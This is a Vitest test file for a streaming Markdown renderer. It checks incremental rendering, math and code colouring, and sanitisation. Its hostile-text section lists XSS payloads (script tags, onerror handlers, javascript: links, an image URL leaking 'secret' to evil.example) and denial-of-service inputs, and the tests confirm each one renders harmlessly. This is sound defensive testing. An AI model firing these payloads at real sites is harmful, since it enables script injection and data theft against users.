import { describe, expect, test, vi } from 'vitest';
import { MarkdownStream } from './stream';

const LABELS = { copy: 'Copy', wrap: 'Wrap lines', save: 'Download', image: 'Image: ', code: 'Code' };

function start(): { host: HTMLElement; write: (text: string) => void; stream: MarkdownStream } {
  const host = document.createElement('div');
  document.body.replaceChildren(host);
  const stream = new MarkdownStream(host, LABELS);
  const write = (text: string) => {
    stream.append(text);
    stream.flush();
  };
  return { host, write, stream };
}

function render(text: string): HTMLElement {
  const { host, write, stream } = start();
  write(text);
  stream.finish();
  return host;
}

test('sections are marked as settled once they have left the screen, and all when all is there', async () => {
  const { host, write, stream } = start();
  for (let n = 0; n < 60; n++) write(`Paragraph ${n}.\n\n`);
  const marked = () => [...host.children].map((section) => section.className === 'settled');
  expect(marked()).toEqual([true, true, true, true, false]);
  stream.finish();
  await vi.waitFor(() => expect(marked()).not.toContain(false));
});

test('no section is longer than another, however the text came', async () => {
  const text = Array.from({ length: 60 }, (_, n) => `Paragraph ${n}.\n\n`).join('');
  const { host, write, stream } = start();
  for (const sign of text) write(sign);
  stream.finish();
  const whole = render(text);
  await vi.waitFor(() => expect(whole.querySelectorAll('.settled')).toHaveLength(5));
  await vi.waitFor(() => expect(host.innerHTML).toBe(whole.innerHTML));
  expect(new Set([...host.children].map((section) => section.children.length)).size).toBe(1);
});

describe('while text is coming', () => {
  const halves: [string, RegExp][] = [
    ['Some **bold words** here', /\*/],
    ['Some *light words* here', /\*/],
    ['- item **one**\n- item `two`\n', /[*`-]/],
    ['see [the page](https://example.org/a) now', /[[\]()]/],
    ['an image ![alt text](https://example.org/a.png) here', /[![\]()]|https/],
    ['area $$x^2 + y$$ is', /[$^]/],
    ['area \\(x^2 + y\\) is', /[\\(^]/],
    ['text\n\n$$\nx^2\n+ y\n$$\n\nmore', /\$|\+/],
    ['| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n', /\||---/],
    ['## Head\n\ntext', /#/],
    ['Title:\n- one\n- two', /-/],
    ['say:\n\n```py\nx = 1\n```\n\nend', /`/],
    ['~~gone~~ and `code **x`', /~|`/],
  ];
  for (const [text, raw] of halves) {
    test(`no mark flashes up in ${JSON.stringify(text)}`, () => {
      const { host, write } = start();
      for (const sign of text) {
        write(sign);
        const clone = host.cloneNode(true) as HTMLElement;
        clone.querySelectorAll('.math, code').forEach((element) => element.remove());
        expect(clone.textContent).not.toMatch(raw);
      }
    });
  }

  test('money is text at every moment', () => {
    const { host, write } = start();
    let sent = '';
    for (const sign of 'It is $5 and $6 a day') {
      write(sign);
      sent += sign;
    }
    expect(host.textContent).toBe(sent);
    expect(host.querySelector('.math')).toBeNull();
  });

  test('an open code block is code from its first line, and its text node stays the same', () => {
    const { host, write, stream } = start();
    write('```python\n');
    const code = host.querySelector('pre > code');
    expect(code).not.toBeNull();
    const text = code?.firstChild;
    for (const piece of ['a', ' = 1\n', 'b\n', '\n', 'c = **x', '\n``', '`\n']) write(piece);
    expect(host.querySelector('pre > code')).toBe(code);
    expect(code?.textContent).toBe('a = 1\nb\n\nc = **x');
    expect(code?.firstChild).toBe(text);
    stream.finish();
  });

  test('finished blocks, items and rows are never touched again', () => {
    const { host, write, stream } = start();
    write('first **block**\n\n- one\n- two\n- thr');
    const kept = [host.querySelector('p'), host.querySelectorAll('li')[0], host.querySelectorAll('li')[1]];
    write('ee\n- four\n\n| a |\n|---|\n| 1 |\n| 2');
    const row = host.querySelector('tbody tr');
    const seen: MutationRecord[] = [];
    const observer = new MutationObserver((records) => seen.push(...records));
    for (const element of [...kept, row])
      if (element) observer.observe(element, { subtree: true, childList: true, characterData: true });
    write(' |\n| 3 |\n\nlast paragraph\n\nand more');
    stream.finish();
    seen.push(...observer.takeRecords());
    expect(seen).toEqual([]);
    expect([...host.querySelectorAll('li')].slice(0, 2)).toEqual(kept.slice(1));
    expect(host.querySelector('tbody tr')).toBe(row);
  });

  test('growing text is appended to its text node', () => {
    const { host, write } = start();
    write('some words');
    const node = host.querySelector('p')?.firstChild;
    write(' and more words');
    expect(host.querySelector('p')?.firstChild).toBe(node);
    expect(node?.textContent).toBe('some words and more words');
  });
});

describe('formulas and colours', () => {
  test('formulas are drawn with their roots and stretchy signs', async () => {
    const { host, write, stream } = start();
    write('$$\\frac{\\sqrt{\\pi}}{2}$$\n\nand $\\widehat{abc}$');
    stream.finish();
    await stream.ready();
    expect(host.querySelectorAll('.katex')).toHaveLength(2);
    expect(host.querySelectorAll('.katex svg').length).toBeGreaterThanOrEqual(2);
  });

  test('a formula that cannot be read stays as its source', async () => {
    const { host, write, stream } = start();
    write('bad $\\frac{1$ here');
    stream.finish();
    await stream.ready();
    expect(host.textContent).toBe('bad \\frac{1 here');
  });

  test.each([
    '\\href{javascript:alert(1)}{x}',
    '\\href{https://example.org}{x}',
    '\\href{://}{x}',
    '\\url{https://example.org}',
    '\\includegraphics{https://example.org/x.png}',
    '\\htmlClass{code-copy}{x}',
    '\\htmlId{composer}{x}',
    '\\htmlStyle{position:fixed}{x}',
    '\\htmlData{a=b}{x}',
    '\\newcommand{\\f}[1]{\\url{#1}} \\f{https://example.org}',
    '\\nosuchcommand{x}',
  ])('a formula that would do more than to show stays as its source: %s', async (tex) => {
    const { host, write, stream } = start();
    for (const sign of `first $$${tex}$$ and $x + y$\n\n$$\n${tex}\n$$\n\nend`) write(sign);
    stream.finish();
    await stream.ready();
    expect([...host.querySelectorAll('.bad-tex')].map((formula) => formula.innerHTML)).toEqual([tex, tex]);
    expect(host.querySelectorAll('.katex')).toHaveLength(1);
  });

  test('code is coloured once it is complete, and its text stays exact', async () => {
    const { host, write, stream } = start();
    write('```js\nconst a = "<b>";\n```\n');
    await stream.ready();
    expect(host.querySelector('code .hljs-keyword')?.textContent).toBe('const');
    expect(host.querySelector('code')?.textContent).toBe('const a = "<b>";');
    stream.finish();
  });
});

test('a definition after a footnote is no part of it', () => {
  const host = render('See[^1] and [a].\n\n[^1]: The note\ngoes on\n[a]: https://a.example\n');
  expect(host.querySelector('.footnote')?.textContent).toBe('1 The note\ngoes on');
  expect(host.querySelector('a')?.href).toBe('https://a.example/');
});

describe('hostile text', () => {
  const corpus = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](blob:x)',
    '![x](https://evil.example/leak.png?q=secret)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x"onerror="alert(1)](x)',
    '<https://evil.example/" onmouseover="alert(1)>',
    '[x](https://a.example/"onclick="alert(1) "t\\"onclick=\\"x")',
    '[x]: javascript:alert(1)\n\n[x]',
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '| <img src=x onerror=alert(1)> |\n|---|\n| </td><script>alert(1)</script> |',
    '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$',
    '$$\\htmlData{x=y}{z} \\htmlStyle{background:url(https://evil.example)}{a}$$',
    '$</span><img src=x onerror=alert(1)>$',
    '[^<img src=x>]: note\n\nsee [^<img/src=x>]',
    '<a href="javascript:alert(1)" style="position:fixed">x</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '- <form action="javascript:alert(1)"><button>x</button>',
    '# <base href="https://evil.example">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
  ];
  for (const text of corpus) {
    test(`is harmless: ${JSON.stringify(text).slice(0, 70)}`, async () => {
      const { host, write, stream } = start();
      for (const sign of text) {
        write(sign);
        assertHarmless(host);
      }
      stream.finish();
      await stream.ready();
      assertHarmless(host);
    });
  }

  const endless: [name: string, text: string][] = [
    ['quotes', '>'.repeat(5_000)],
    ['spaced quotes', '> '.repeat(3_000)],
    ['lists', '- '.repeat(3_000)],
    ['open marks', '*a '.repeat(3_000)],
    ['mixed marks', '*a _b **c ~~d '.repeat(1_000)],
    ['brackets', '['.repeat(10_000)],
    ['a row of words', 'a **word** and `code` '.repeat(500)],
  ];
  for (const [name, text] of endless) {
    test(`what never ends is shown, and what comes after it: ${name}`, () => {
      const { host, write, stream } = start();
      write('Before.\n\n');
      for (let at = 0; at < text.length; at += 2_000) write(text.slice(at, at + 2_000));
      write('end\n\nAfter.\n\n');
      stream.finish();
      expect(host.textContent).toMatch(/^Before\.[^]*end\s*After\.\s*$/);
      expect(host.innerHTML).toBe(render(`Before.\n\n${text}end\n\nAfter.\n\n`).innerHTML);
    });
  }

  test('a long row of words loses nothing where it is read in parts', () => {
    const words = Array.from({ length: 4_000 }, (_, n) => `word${n}`).join(' ');
    expect(render(words).textContent).toBe(words);
    expect(render('x'.repeat(30_000)).textContent).toBe('x'.repeat(30_000));
  });

  test('raw HTML is shown as text', () => {
    expect(render('<b>bold?</b> <div>x</div>').textContent).toBe('<b>bold?</b> <div>x</div>');
  });

  test('an image is a link, not a request', () => {
    const host = render('![a cat](https://example.org/cat.png)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://example.org/cat.png');
    expect(host.querySelector('a')?.rel).toContain('noopener');
    expect(host.querySelector('a')?.textContent).toBe('Image: a cat example.org');
  });

  test('an image in a link leads where the link does', () => {
    const host = render('[![a badge](https://badge.example/b.svg)](https://example.org/)');
    expect([...host.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['https://example.org/']);
    expect(host.querySelector('a')?.textContent).toBe('Image: a badge badge.example');
  });

  test('the host of an image is the one that would be asked, or none', () => {
    const hosts = [
      ['https://good.example@evil.example/x.png', 'evil.example'],
      ['https://www.good.example&#46;evil.example/x.png', undefined],
      ['https://g\u043e\u043ed.example/x.png', 'xn--gd-fmca.example'],
      ['//evil.example/x.png', undefined],
      ['sandbox:/x.png', undefined],
    ] as const;
    for (const [address, host] of hosts)
      expect(render(`![x](${address})`).querySelector('.host')?.textContent, address).toBe(host);
  });
});

const ALLOWED = new Set(
  (
    'p h1 h2 h3 h4 h5 h6 ul ol li blockquote hr pre code div span table thead tbody tr th td a strong em del br sup input button ' +
    'math semantics mrow mi mo mn mtext annotation svg path mstyle merror mfrac msup'
  ).split(' '),
);

function assertHarmless(host: Element): void {
  for (const element of host.querySelectorAll('*')) {
    expect(ALLOWED).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^src$|^action$|^formaction$|^srcset$/);
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === 'style') expect(value).not.toMatch(/url|expression/);
    }
  }
}
